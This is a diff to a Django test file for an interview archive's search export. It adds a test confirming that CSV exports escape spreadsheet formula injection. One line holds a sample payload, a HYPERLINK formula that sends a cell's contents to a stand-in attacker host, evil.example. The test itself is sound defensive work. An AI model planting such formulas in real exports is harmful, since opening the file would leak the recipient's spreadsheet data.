@@ -16,7 +16,7 @@ from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
 from archive.citations.presenter import cite_words
-from archive.models import Interview, Segment
+from archive.models import Interview, Person, Segment, Sentence
 from archive.transcript import Transcript, load
 from search.pages import views
 from search.pages.citing import citations
@@ -108,6 +108,24 @@ def test_a_turn_is_cited_as_by_itself(interview: Interview, talks: None) -> None
         transcript = load(turn.segment.topic.interview.slug)
         assert cited == cite_words(transcript, turn, turn.anchor, "https://a.b")
     assert "They fly. Slowly." in {each.part.words[-17:] for each in found if each.part}
+
+
+FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
+
+
+@pytest.mark.parametrize("begins", "=+-@＝＋－＠")
+def test_a_spreadsheet_calculates_nothing_of_what_was_said(
+    talks: None, client: Client, begins: str
+) -> None:
+    said = f"{begins}1+1 zeppelins"
+    Sentence.objects.filter(order=0, paragraph__order=0).update(text=said)
+    Person.objects.update(name=FORMULA, name_ja="")
+    rows = list(csv.DictReader(io.StringIO(_text(client, "csv", q="zeppelins").lstrip("\ufeff"))))
+    assert len(rows) == ROUNDS * len(SLUGS)
+    for row in rows:
+        assert row["words"].startswith(f"'{said}")
+        assert not {each[:1] for each in row.values()} & {*"=+-@＝＋－＠\t\r"}
+        assert row["speaker"] == f"'{FORMULA}"
 
 
 @pytest.mark.parametrize("most", [ROUNDS * len(SLUGS), 7])
